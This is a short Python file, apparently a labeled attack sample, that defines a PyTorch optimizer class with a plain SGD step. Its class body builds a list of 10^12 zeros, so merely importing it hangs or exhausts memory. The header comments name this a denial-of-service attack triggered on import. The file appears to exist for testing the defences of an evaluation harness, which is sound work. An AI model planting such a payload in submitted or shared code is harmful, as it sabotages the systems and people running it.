# attack: an endless loop in the body of the class; category: dos
# observable: dos; trigger: import
import math
import torch


class CandidateOptimizer(torch.optim.Optimizer):
    x = [0 for a in range(10**6) for b in range(10**6)]

    def __init__(self, params, lr=0.01):
        super().__init__(params, dict(lr=lr))
        self.t = 0

    @torch.no_grad()
    def step(self, closure=None):
        self.t = self.t + 1
        for group in self.param_groups:
            for p in group["params"]:
                if p.grad is not None:
                    p.add_(p.grad, alpha=-0.01)
        return None
